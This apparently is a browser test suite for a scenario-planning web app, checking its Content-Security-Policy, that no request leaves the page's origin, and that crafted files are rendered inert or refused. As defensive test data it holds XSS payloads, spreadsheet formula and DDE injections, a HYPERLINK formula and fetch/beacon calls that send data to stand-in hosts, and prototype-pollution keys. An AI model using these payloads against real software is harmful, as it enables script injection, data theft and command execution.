// A crafted file must not be able to do harm, and the page must not talk to anyone: the built
// page's Content-Security-Policy holds (proved by code the page itself runs: Playwright's own
// evaluate is exempt from the policy), no request leaves the page's origin in a long session,
// names carrying markup are shown as text everywhere, and hostile files are refused whole.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { subjectText } from '../../src/engine';
import type { Page } from 'playwright-core';
import type { AppState } from '../../src/app/controller';
import { type MessageKey, translate } from '../../src/i18n';
import { type Operation, type ScenarioFile } from '../../src/model';
import { parseScenarioFile } from '../../src/model/parse';
import {
  type Browsing,
  CURRENT,
  type Prototypes,
  chooseFile,
  downloadOf,
  engineWorkers,
  idbGet,
  launch,
  origin,
  prototypesIn,
  recordCspViolations,
  recordDialogs,
  storedWork,
} from './fault-helpers';
import { baseUrl, chooseScenario, dragBureau, expectScreen, pageState, reload, settled, waitSaved, waitSteps } from './harness';
import { changeSentences, exampleFile, expectedScreen, reportOf, withOperations } from './oracle';
import { withoutNewStamps } from './stamps';

const example = exampleFile();
const move: Operation = { op: 'move', bureau: 'xs-ez-municipal', to: 'xs-yunlin' };
const work = withOperations(example, 'plan-a', [move]);

type Hooked = { zonereform: { controller: { store: { get(): AppState } } } };
type Probe = Record<string, string | boolean | undefined>;

/** The policy's directives: name → sources. */
function directives(policy: string): Record<string, string[]> {
  return Object.fromEntries(
    policy
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...sources]) => [name!.toLowerCase(), sources]),
  );
}

/** Reported violations of the policy in this document so far (the init script records them). */
function violations(page: Page): Promise<Array<{ directive: string; blocked: string; sample: string }>> {
  return page.evaluate(() => (window as unknown as { __cspViolations: Array<{ directive: string; blocked: string; sample: string }> }).__cspViolations.slice());
}

describe('the Content-Security-Policy of the built page', () => {
  let s: Browsing;
  beforeAll(async () => {
    s = await launch({ init: [recordCspViolations] });
  });
  afterAll(() => s.close());

  it('is in the page before any script: scripts and workers from its own origin only, nothing inline, no eval', async () => {
    const html = await (await fetch(baseUrl())).text();
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/i.exec(html);
    expect(meta, 'the CSP meta element in the served page').not.toBeNull();
    expect(meta!.index, 'the policy comes before the first script').toBeLessThan(html.search(/<script/i));
    const policy = directives(meta![1]!);
    expect(await s.page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content')).toBe(meta![1]);

    expect(policy['script-src']).toEqual(["'self'"]);
    expect(policy['default-src']).toEqual(["'self'"]);
    expect(policy['worker-src']).toEqual(["'self'"]);
    expect(policy['connect-src']).toEqual(["'self'"]);
    expect(policy['object-src']).toEqual(["'none'"]);
    expect(policy['base-uri']).toEqual(["'none'"]);
    // nothing loosens scripts: no per-element script directive, no inline, no eval, no wildcard, no data: or blob:
    expect(Object.keys(policy).filter((d) => /^script-src-(elem|attr)$/.test(d))).toEqual([]);
    for (const name of ['script-src', 'default-src', 'worker-src']) {
      expect(policy[name]!.filter((src) => /unsafe|strict-dynamic|^\*$|^data:|^blob:|^https?:/i.test(src)), name).toEqual([]);
    }
    // the page needs none of it: every script it has is a file of its own origin
    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
    expect(scripts.length).toBeGreaterThan(0);
    for (const [, attributes, body] of scripts) {
      expect(attributes, 'a script from a file').toMatch(/\bsrc="\/[^"/]/);
      expect(body!.trim(), 'no inline script').toBe('');
    }
    expect(html, 'no inline event handler').not.toMatch(/\son[a-z]+\s*=/i);
  });

  it('stops an inline script, inline event handlers and javascript: links put into the page', async () => {
    const { page } = s;
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true;';
      document.body.append(script);
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.__handlerRan = true');
      image.src = 'data:,not-an-image';
      document.body.append(image);
      const link = document.createElement('a');
      link.href = 'javascript:window.__linkRan = true';
      link.textContent = 'x';
      document.body.append(link);
      link.click();
    });
    await page.waitForFunction(() => (window as unknown as { __cspViolations: unknown[] }).__cspViolations.length >= 3);
    const ran = await page.evaluate(() => {
      const w = window as unknown as Record<string, unknown>;
      return [w.__inlineRan, w.__handlerRan, w.__linkRan].map((v) => v ?? null);
    });
    expect(ran, 'inline script, onerror handler, javascript: link').toEqual([null, null, null]);
    const directivesHit = new Set((await violations(page)).map((v) => v.directive));
    expect([...directivesHit].sort()).toEqual(expect.arrayContaining(['script-src-attr', 'script-src-elem']));
  });

  it('stops eval, new Function and string timers in a script the page loads from its own origin', async () => {
    const { page } = s;
    const probe = `${origin()}/__csp-probe.js`;
    await page.route(probe, (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: `
          (() => {
            const out = { loaded: true };
            window.__probe = out;
            try { out.eval = String(eval('"ran"')); } catch (e) { out.eval = e.name; }
            try { out.fn = String(new Function('return "ran"')()); } catch (e) { out.fn = e.name; }
            try { setTimeout('window.__probe.timer = "ran"', 0); } catch (e) { out.timer = e.name; }
            setTimeout(() => { out.done = true; }, 100);
          })();`,
      }),
    );
    await page.evaluate((src) => {
      const script = document.createElement('script');
      script.src = src;
      document.body.append(script);
    }, probe);
    await page.waitForFunction(() => (window as unknown as { __probe?: { done?: boolean } }).__probe?.done === true);
    const result = await page.evaluate(() => (window as unknown as { __probe: Probe }).__probe);
    expect(result.loaded, 'a script of the page’s own origin runs (the control)').toBe(true);
    expect(result.eval, 'eval').toBe('EvalError');
    expect(result.fn, 'new Function').toBe('EvalError');
    expect(result.timer ?? null, 'setTimeout with a string').toBeNull();
    expect((await violations(page)).filter((v) => v.directive === 'script-src' && v.blocked === 'eval').length).toBeGreaterThanOrEqual(2);
  });

  it('stops scripts, workers and connections to anywhere else, before any request is made', async () => {
    const { page } = s;
    const probe = `${origin()}/__csp-probe-remote.js`;
    await page.route(probe, (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: `
          (async () => {
            const out = {};
            window.__remote = out;
            // a worker refused by the policy may be constructed, but its script never runs
            const start = (url) => new Promise((resolve) => {
              try {
                const worker = new Worker(url);
                worker.onmessage = () => resolve('ran');
                worker.onerror = () => resolve('failed');
                setTimeout(() => resolve('silent'), 1000);
              } catch (e) { resolve(e.name); }
            });
            out.blobWorker = await start(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
            out.dataWorker = await start('data:text/javascript,postMessage(1)');
            try { await fetch('https://collector.example.net/leak?work=1'); out.fetch = 'sent'; } catch (e) { out.fetch = e.name; }
            try { navigator.sendBeacon('https://collector.example.net/beacon', 'work'); out.beacon = 'queued'; } catch (e) { out.beacon = e.name; }
            out.done = true;
          })();`,
      }),
    );
    await page.evaluate((src) => {
      for (const url of ['https://cdn.example.net/library.js', 'data:text/javascript,window.__dataRan=true', src]) {
        const script = document.createElement('script');
        script.src = url;
        document.body.append(script);
      }
    }, probe);
    await page.waitForFunction(() => (window as unknown as { __remote?: { done?: boolean } }).__remote?.done === true);
    await page.waitForTimeout(200);
    const result = await page.evaluate(() => (window as unknown as { __remote: Probe }).__remote);
    const dataRan = await page.evaluate(() => (window as unknown as { __dataRan?: boolean }).__dataRan ?? null);
    const blocked = (await violations(page)).map((v) => `${v.directive} ${v.blocked}`);
    expect(dataRan, 'a data: script').toBeNull();
    expect(result.blobWorker, 'a worker from a blob').not.toBe('ran');
    expect(result.dataWorker, 'a worker from a data: URL').not.toBe('ran');
    expect(result.fetch, 'fetch to another origin is refused').toBe('TypeError');
    expect(blocked).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^script-src-elem https:\/\/cdn\.example\.net/),
        expect.stringMatching(/^script-src-elem data/),
        expect.stringMatching(/^worker-src blob/),
        expect.stringMatching(/^connect-src https:\/\/collector\.example\.net/),
      ]),
    );
    // the browser names the blocked addresses, but none reached the network
    expect(s.escaped, 'requests that reached the network layer').toEqual([]);
    for (const url of s.foreign) expect(s.failed[url], url).toMatch(/BLOCKED_BY_CSP|csp/i);
  });
});

/** Every element attribute that could run code, every script or frame not the page's own, every image, and what the stubs recorded. */
async function inert(page: Page) {
  return page.evaluate((own) => {
    const handlers: string[] = [];
    for (const element of document.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        const url = /^(href|src|action|formaction|data|xlink:href|srcdoc)$/i.test(attribute.name);
        if (/^on/i.test(attribute.name) || (url && /^\s*javascript:/i.test(attribute.value))) handlers.push(`<${element.tagName.toLowerCase()} ${attribute.name}="${attribute.value.slice(0, 60)}">`);
      }
    }
    const w = window as unknown as { __dialogCalls?: string[]; __pwned?: unknown; __cspViolations?: unknown[] };
    return {
      handlers,
      scripts: [...document.querySelectorAll('script')].filter((e) => !(e instanceof HTMLScriptElement && e.src.startsWith(`${own}/assets/`))).map((e) => e.outerHTML.slice(0, 80)),
      frames: [...document.querySelectorAll('iframe, frame, object, embed')].map((e) => e.outerHTML.slice(0, 80)),
      images: [...document.querySelectorAll('img, image')].map((e) => e.outerHTML.slice(0, 80)),
      dialogs: w.__dialogCalls ?? ['(no stub)'],
      pwned: w.__pwned ?? null,
      violations: w.__cspViolations ?? ['(no recorder)'],
    };
  }, origin());
}

const NOTHING_RAN = { handlers: [], scripts: [], frames: [], images: [], dialogs: [], pwned: null, violations: [] };

describe('a long session', () => {
  let s: Browsing;
  beforeAll(async () => {
    s = await launch({ init: [recordCspViolations] });
  });
  afterAll(() => s.close());

  it('open, drag, compare, before/after, present, export, language, reload, open and save: no request leaves the origin', async () => {
    const { page } = s;
    const svgs: string[] = [];
    await chooseScenario(page, 'plan-a');
    await dragBureau(page, 'xs-ez-municipal', '[data-unit-id="xs-yunlin"]');
    await waitSteps(page, 1, 0);
    svgs.push((await downloadOf(page, () => page.locator('[data-action="export-svg"]').first().click())).bytes.toString('utf8'));
    await downloadOf(page, () => page.locator('[data-action="export-png"]').first().click());

    await page.click('[data-action="compare"]');
    await page.waitForSelector('.compare-view [data-action="export-csv"]');
    await downloadOf(page, () => page.click('[data-action="export-csv"]'));
    await page.locator('[data-action="export-svg"]').first().waitFor();
    svgs.push((await downloadOf(page, () => page.locator('[data-action="export-svg"]').first().click())).bytes.toString('utf8'));
    await downloadOf(page, () => page.locator('[data-action="export-png"]').first().click());

    await page.click('[data-action="before-after"]');
    await page.waitForSelector('[data-side="after"] [data-action="export-svg"]');
    svgs.push((await downloadOf(page, () => page.click('[data-side="after"] [data-action="export-svg"]'))).bytes.toString('utf8'));
    await downloadOf(page, () => page.click('[data-side="before"] [data-action="export-png"]'));
    await page.waitForSelector('[data-action="export-csv"]:not([disabled])');
    await downloadOf(page, () => page.click('[data-action="export-csv"]'));

    await page.click('[data-action="present"]');
    await page.waitForSelector('[data-slide="title"]');
    // every slide, to the last
    for (let at = 0; at < 60 && (await page.getAttribute('[data-slide]', 'data-slide')) !== 'problems'; at++) {
      const count = await page.textContent('.slide-count');
      await page.keyboard.press('ArrowRight');
      await page.waitForFunction((before) => document.querySelector('.slide-count')?.textContent !== before, count);
    }
    await page.click('[data-action="exit-present"]');
    await page.getByRole('navigation').getByRole('button').first().click();
    await settled(page);

    await page.click('[data-lang="en"]');
    await page.waitForFunction(() => document.documentElement.lang === 'en');
    await settled(page);
    expect(await violations(page), 'the app keeps within its own policy').toEqual([]);
    await waitSaved(page);
    await reload(page);
    expect((await pageState(page)).lang).toBe('en');
    expect((await pageState(page)).file).toEqual(work);

    // another file opened, the work set aside comes back from the recent list, and is saved as a file
    const other = exampleFile('jiangyin-hi-tech.json');
    await chooseFile(page, 'jiangyin-hi-tech.json', JSON.stringify(other));
    await page.waitForFunction((title) => (window as unknown as Hooked).zonereform.controller.store.get().file?.title === title, other.title);
    await settled(page);
    await page.click('[data-action="recent-files"]');
    await page.locator('[data-recent-id]', { hasText: example.title }).first().click();
    await page.waitForFunction((title) => (window as unknown as Hooked).zonereform.controller.store.get().file?.title === title, example.title);
    await settled(page);
    expect((await pageState(page)).file, 'the work came back whole').toEqual(work);
    const saved = await downloadOf(page, () => page.locator('[data-action="save-file"]').first().click());
    const parsed = parseScenarioFile(saved.bytes.toString('utf8'));
    expect(parsed.ok && withoutNewStamps(parsed.file)).toEqual(work);

    expect(s.foreign, 'requests that would have left the origin').toEqual([]);
    expect(s.requests.filter((url) => !url.startsWith(`${origin()}/`) && !/^(data|blob):/.test(url))).toEqual([]);
    // the record is complete: the worker and the views loaded on first use are in it
    for (const part of ['engine.worker', 'CompareView', 'BeforeAfterView', 'Presentation']) {
      expect(s.requests.some((url) => url.includes(part)), `${part} was requested`).toBe(true);
    }
    expect(await violations(page), 'the app keeps within its own policy').toEqual([]);
    // what leaves as a file refers to nothing outside it
    for (const svg of svgs) {
      expect(svg).not.toMatch(/\s(href|xlink:href|src)\s*=/i);
      const urls = [...new Set(svg.match(/https?:\/\/[^\s"'<>)]+/g) ?? [])];
      expect(urls.filter((u) => !/^http:\/\/www\.w3\.org\/(2000\/svg|1999\/xlink)$/.test(u))).toEqual([]);
    }
    expect(s.errors).toEqual([]);
  });
});

// ---- crafted files ----

const MARKUP = {
  title: `"><script>window.__pwned='title'</script><img src=x onerror="alert('title')">`,
  region: `<iframe src="javascript:alert('region')"></iframe>`,
  zone: `<img src=x onerror=alert('unit')>锡山经开区`,
  street: `<svg onload=alert('street')>云林街道</svg>`,
  bureau: `<svg/onload=alert('bureau')>城市管理局`,
  office: `"><script>alert('bureau')</script>综合办`,
  formula: `=HYPERLINK("http://evil.example/?leak="&A1,"点击")`,
  unitFormula: `@SUM(1+1)*cmd|' /C calc'!A0`,
  scenario: `<script>alert('scenario')</script>方案A`,
  scenarioFormula: `+cmd|' /C calc'!A0`,
  doc: `<img src=x onerror=alert('doc')>`,
  note: `javascript:alert('note')//<b onmouseover=alert('note')>x</b>`,
  fn: `<img src=x onerror=alert('function')>城市管理`,
};

/** The example with markup and spreadsheet formulas in every text a user sees. */
function markedUp(): ScenarioFile {
  const file = structuredClone(example) as ScenarioFile & { units: Array<{ id: string; name: string }>; bureaus: Array<{ id: string; name: string }> };
  const rename = (list: Array<{ id: string; name: string }>, id: string, name: string) => {
    list.find((x) => x.id === id)!.name = name;
  };
  // an address the page must never fetch, though the file names it
  file.$schema = 'https://collector.example.net/schema.json?who=office';
  file.title = MARKUP.title;
  file.region = MARKUP.region;
  file.meta = { html: `<script>alert('meta')</script>` };
  file.functions = [{ id: 'urban-management', name: MARKUP.fn, category: 'social' }];
  rename(file.units, 'xs-ez', MARKUP.zone);
  rename(file.units, 'xs-yunlin', MARKUP.street);
  rename(file.units, 'xs-msz', MARKUP.unitFormula);
  rename(file.bureaus, 'xs-ez-urban', MARKUP.bureau);
  rename(file.bureaus, 'xs-ez-office', MARKUP.office);
  rename(file.bureaus, 'xs-ez-land', MARKUP.formula);
  const [a, b] = file.scenarios as [ScenarioFile['scenarios'][number], ScenarioFile['scenarios'][number]];
  a.name = MARKUP.scenario;
  b.name = MARKUP.scenarioFormula;
  a.operations[0] = { ...a.operations[0]!, doc: MARKUP.doc, note: MARKUP.note };
  return file;
}

/** Cells of a CSV (quoted fields, "" for a quote, CRLF rows), enough for the app's own exports. */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = text.charCodeAt(0) === 0xfeff ? 1 : 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',' || c === '\n') (cells.push(cell.replace(/\r$/, '')), (cell = ''));
    else cell += c;
  }
  if (cell !== '') cells.push(cell);
  return cells;
}

/** A cell a spreadsheet would run as a formula: = + - @ first, unless it is a plain number. */
const formula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[-+]?\d+(\.\d+)?%?$/.test(cell);

describe('a file whose names carry markup and formulas', () => {
  let s: Browsing;
  const file = markedUp();
  beforeAll(async () => {
    s = await launch({ init: [recordDialogs, recordCspViolations] });
  });
  afterAll(() => s.close());

  it('is shown as text on every screen, in the messages and the change list, and in every export', async () => {
    const { page } = s;
    expect(parseScenarioFile(JSON.stringify(file)).ok, 'a valid file: names are free text').toBe(true);
    await chooseFile(page, `<img src=x onerror=alert('filename')>.json`, JSON.stringify(file));
    await page.waitForFunction((title) => (window as unknown as Hooked).zonereform.controller.store.get().file?.title === title, file.title);
    await settled(page);
    expect(await inert(page), 'model view').toEqual(NOTHING_RAN);
    expect(await page.locator('header h1').textContent(), 'the title, as text').toBe(MARKUP.title);
    expect(await page.locator('[data-unit-id="xs-ez"]').first().textContent()).toContain(MARKUP.zone);
    // a card shows a long name shortened in the middle and gives it whole on hover: as text both times
    for (const [id, name] of [['xs-ez-urban', MARKUP.bureau], ['xs-ez-office', MARKUP.office]] as const) {
      expect(await page.getAttribute(`[data-bureau-id="${id}"]`, 'title')).toBe(name);
      const shown = (await page.locator(`[data-bureau-id="${id}"] > div`).first().textContent())!;
      expect(name.startsWith(shown.split('…')[0]!), `${id}: ${shown}`).toBe(true);
      expect(name.endsWith(shown.split('…').at(-1)!), `${id}: ${shown}`).toBe(true);
    }

    // the rule messages, word for word the engine's, names and all
    const report = reportOf(file);
    for (const v of report.baseline.violations) {
      expect(await page.locator(`[data-violation-rule="${v.rule}"][data-violation-subject="${subjectText(v.subject)}"]`).textContent()).toContain(v.message);
    }
    expect(report.baseline.violations.some((v) => v.message.includes(MARKUP.bureau) && v.message.includes(MARKUP.fn))).toBe(true);

    // the change list of the proposal, with its document number and note in their fields
    await chooseScenario(page, 'plan-a');
    await expectScreen(page, expectedScreen(file, 'plan-a'), 'plan-a');
    await page.locator('aside [role="tablist"] [role="tab"]').nth(1).click();
    await page.waitForSelector('[data-change-index="0"]');
    const lines = await page.$$eval('[data-change-index]', (items) => items.map((li) => li.querySelector('button')?.textContent ?? ''));
    const sentences = changeSentences(file, 'plan-a');
    expect(lines.length).toBe(sentences.length);
    lines.forEach((line, i) => expect(line).toBe(`${i + 1}${sentences[i]}`));
    expect(sentences[0]).toContain(MARKUP.bureau);
    // the document number in its field, the note (说明) in its multi-line one: as text
    expect(await page.locator('[data-change-index="0"] input, [data-change-index="0"] textarea').evaluateAll((fields) => fields.map((f) => (f as HTMLInputElement).value))).toEqual([MARKUP.doc, MARKUP.note]);
    expect(await inert(page), 'change list').toEqual(NOTHING_RAN);

    // exports of the org chart: well-formed SVG with the names as text, and a PNG drawn from it
    const svg = (await downloadOf(page, () => page.locator('[data-action="export-svg"]').first().click())).bytes.toString('utf8');
    const parsed = await page.evaluate((text) => {
      const doc = new DOMParser().parseFromString(text, 'image/svg+xml');
      const all = [...doc.querySelectorAll('*')];
      return {
        error: doc.querySelector('parsererror')?.textContent ?? null,
        active: all.filter((e) => /^(script|foreignObject|iframe|image|img|a|use)$/i.test(e.localName)).map((e) => e.localName),
        handlers: all.flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => a.name)),
        texts: [...doc.querySelectorAll('text')].map((t) => t.textContent ?? ''),
      };
    }, svg);
    expect(parsed.error).toBeNull();
    expect(parsed.active).toEqual([]);
    expect(parsed.handlers).toEqual([]);
    expect(parsed.texts.some((t) => t.startsWith(MARKUP.title))).toBe(true);
    const png = await downloadOf(page, () => page.locator('[data-action="export-png"]').first().click());
    expect(png.bytes.subarray(0, 8).toString('hex'), 'a PNG').toBe('89504e470d0a1a0a');
    expect(png.name, 'a harmless file name').not.toMatch(/[<>"/\\:*?|]/);

    // compare, before/after, slides, recent files: the same names, still text
    await page.click('[data-action="compare"]');
    await page.waitForSelector('.compare-view [data-action="export-csv"]');
    await page.locator('svg').first().waitFor();
    expect(await inert(page), 'compare').toEqual(NOTHING_RAN);
    expect(await page.locator('main').textContent()).toContain(MARKUP.scenario);
    const compareCsv = (await downloadOf(page, () => page.click('[data-action="export-csv"]'))).bytes.toString('utf8');

    await page.click('[data-action="before-after"]');
    await page.waitForSelector('[data-side="after"]');
    await page.waitForSelector('[data-action="export-csv"]:not([disabled])');
    expect(await inert(page), 'before/after').toEqual(NOTHING_RAN);
    const adjustCsv = (await downloadOf(page, () => page.click('[data-action="export-csv"]'))).bytes.toString('utf8');
    for (const [name, csv] of [['compare', compareCsv], ['adjustments', adjustCsv]] as const) {
      const cells = csvCells(csv);
      expect(cells.filter(formula), `${name}: cells a spreadsheet would run`).toEqual([]);
    }
    expect(csvCells(compareCsv)).toContain(`'${MARKUP.scenarioFormula}`);
    expect(csvCells(adjustCsv).some((c) => c.startsWith(`'${MARKUP.formula}`))).toBe(true);

    await page.click('[data-action="present"]');
    await page.waitForSelector('[data-slide="title"]');
    expect(await page.locator('[data-slide="title"]').textContent()).toContain(MARKUP.title);
    // every slide, to the last, each as text
    for (let at = 0; at < 60 && (await page.getAttribute('[data-slide]', 'data-slide')) !== 'problems'; at++) {
      const count = await page.textContent('.slide-count');
      await page.keyboard.press('ArrowRight');
      await page.waitForFunction((before) => document.querySelector('.slide-count')?.textContent !== before, count);
      expect(await inert(page), `slide ${await page.getAttribute('[data-slide]', 'data-slide')}`).toEqual(NOTHING_RAN);
    }
    await page.click('[data-action="exit-present"]');
    await page.getByRole('navigation').getByRole('button').first().click();
    await settled(page);

    await page.click('[data-action="recent-files"]');
    await page.waitForSelector('[data-recent-id]');
    expect(await page.locator('[data-recent-id]').first().textContent()).toContain(MARKUP.title);
    expect(await inert(page), 'recent files').toEqual(NOTHING_RAN);
    await page.keyboard.press('Escape');

    // and after a reload, restored from the autosave
    await waitSaved(page);
    await reload(page);
    expect(await inert(page), 'after a reload').toEqual(NOTHING_RAN);
    expect(await page.locator('header h1').textContent()).toBe(MARKUP.title);
    expect(s.foreign, 'nothing fetched from the addresses in the file').toEqual([]);
    expect(s.errors).toEqual([]);
  });
});

// ---- files to refuse ----

const valid = JSON.stringify(example);
/** The example's text with `extra` inserted as the first members of the top object. */
const withMembers = (extra: string) => `{${extra},${valid.slice(1)}`;

function deeplyNested(levels: number): string {
  return withMembers(`"meta":${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`).replace(/,"meta":\{\}/, '');
}

function binaryGarbage(bytes: number): Buffer {
  // a fixed pseudo-random sequence: the same bytes on every run
  const out = Buffer.alloc(bytes);
  let x = 0x2545f491;
  for (let i = 0; i < bytes; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  out.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00], 0);
  return out;
}

const markupIds = (() => {
  const file = structuredClone(example) as unknown as { units: Array<{ id: string }>; bureaus: Array<{ id: string }>; scenarios: Array<{ id: string }> };
  file.units[0]!.id = `"><svg onload=alert('unit')>`;
  file.bureaus[0]!.id = `<img src=x onerror=alert('bureau')>`;
  file.scenarios[0]!.id = `<script>alert('scenario')</script>`;
  return JSON.stringify(file);
})();

const zh = (key: MessageKey, args: object) => translate('zh', key, args as never);

interface Bad {
  name: string;
  fileName?: string;
  content: () => string | Buffer;
  /** JSON paths that must be among the errors listed (a prefix when it ends with …). */
  paths: string[];
  /** Text one of the errors must hold. */
  says?: string;
}

const MB = 1024 * 1024;
const BAD: Bad[] = [
  { name: 'ids carrying HTML, SVG and script', fileName: `"><img src=x onerror=alert('file')>.json`, content: () => markupIds, paths: ['$.units[0].id', '$.bureaus[0].id', '$.scenarios[0].id'] },
  { name: 'a format name carrying markup', content: () => JSON.stringify({ ...example, format: `<img src=x onerror=alert('format')>` }), paths: ['$.format'], says: `<img src=x onerror=alert('format')>` },
  { name: 'a __proto__ key at the top', content: () => withMembers(`"__proto__":{"polluted":"yes"}`), paths: ['$.__proto__'], says: zh('key.forbidden', { key: '__proto__' }) },
  {
    name: '__proto__, constructor and prototype keys deep inside',
    content: () => {
      const text = JSON.stringify({ ...example, meta: { settings: { x: 1 } } });
      return text
        .replace('"settings":{"x":1}', '"settings":{"__proto__":{"polluted":"yes"}}')
        .replace('"id":"xs-ez","name"', '"id":"xs-ez","constructor":{"prototype":{"polluted":"yes"}},"name"')
        .replace('"id":"plan-a",', '"id":"plan-a","meta":{"prototype":{"polluted":"yes"}},');
    },
    paths: ['$.meta.settings.__proto__', '$.units[0].constructor', '$.scenarios[0].meta.prototype'],
  },
  { name: 'nesting 100,000 levels deep', content: () => deeplyNested(100_000), paths: ['$.meta.a.a.a…'], says: zh('file.tooDeep', { limit: 1000 }) },
  { name: 'a file over 20 MB', content: () => JSON.stringify({ ...example, notes: 'x'.repeat(21 * MB) }), paths: ['$'] },
  { name: 'over 20 MB in UTF-8 with fewer than 20 million characters', content: () => JSON.stringify({ ...example, notes: '编'.repeat(7 * MB + 100) }), paths: ['$'] },
  { name: 'binary garbage', fileName: 'picture.json', content: () => binaryGarbage(64 * 1024), paths: ['$'] },
  { name: 'an empty file', content: () => '', paths: ['$'], says: zh('file.empty', {}) },
  { name: 'a newer format version (3)', content: () => JSON.stringify({ ...example, version: 3 }), paths: ['$.version'], says: zh('version.newer', { value: 3 }) },
  { name: 'a version that is not the number 1 or 2 ("2")', content: () => JSON.stringify({ ...example, version: '2' }), paths: ['$.version'] },
  { name: 'JSON that is not an object (an array)', content: () => '[{"format":"zonereform/scenario","version":1}]', paths: ['$'] },
];

describe('files to refuse', () => {
  let s: Browsing;
  let cleanPage: Prototypes;
  let cleanWorker: Prototypes;
  beforeAll(async () => {
    s = await launch({ init: [recordDialogs, recordCspViolations] });
    const { page } = s;
    await chooseScenario(page, 'plan-a');
    await dragBureau(page, 'xs-ez-municipal', '[data-unit-id="xs-yunlin"]');
    await waitSteps(page, 1, 0);
    await waitSaved(page);
    cleanPage = await prototypesIn(page);
    cleanWorker = await prototypesIn(engineWorkers(page)[0]!);
    expect(cleanPage.polluted).toBe('undefined');
  });
  afterAll(() => s.close());

  it.each(BAD)('$name: refused with its errors listed; the work, the store and the prototypes are untouched', { timeout: 120_000 }, async ({ fileName, content, paths, says }) => {
    const { page } = s;
    const before = await pageState(page);
    expect(before.file).toEqual(work);
    const body = content();
    await chooseFile(page, fileName ?? 'proposal.json', body);
    await page.waitForSelector('[data-import-error]', { timeout: 60_000 });
    const listed = await page.$$eval('[data-import-error]', (items) => items.map((li) => ({ path: li.getAttribute('data-path') ?? '', text: li.textContent ?? '' })));
    for (const path of paths) {
      const match = path.endsWith('…') ? (p: string) => p.startsWith(path.slice(0, -1)) : (p: string) => p === path;
      expect(listed.some((l) => match(l.path)), `an error at ${path}; listed: ${listed.map((l) => l.path.slice(0, 60)).join(', ')}`).toBe(true);
    }
    for (const l of listed) expect(l.text.trim().length, `the error at ${l.path.slice(0, 60)} says something`).toBeGreaterThan(l.path.length);
    if (says) expect(listed.map((l) => l.text).join('\n')).toContain(says);
    expect(await inert(page), 'the error list is text').toEqual(NOTHING_RAN);

    await page.keyboard.press('Escape');
    await page.waitForSelector('[data-import-error]', { state: 'detached' });
    const after = await pageState(page);
    expect(after, 'the open work, the scenario on screen and the history').toEqual(before);
    await expectScreen(page, expectedScreen(work, 'plan-a'), 'plan-a');
    expect(await storedWork(page), 'the autosave').toEqual(work);
    expect(await prototypesIn(page), 'prototypes in the page').toEqual(cleanPage);
    const [worker] = engineWorkers(page);
    expect(await prototypesIn(worker!), 'prototypes in the engine worker').toEqual(cleanWorker);
    expect(s.errors).toEqual([]);
  });
});
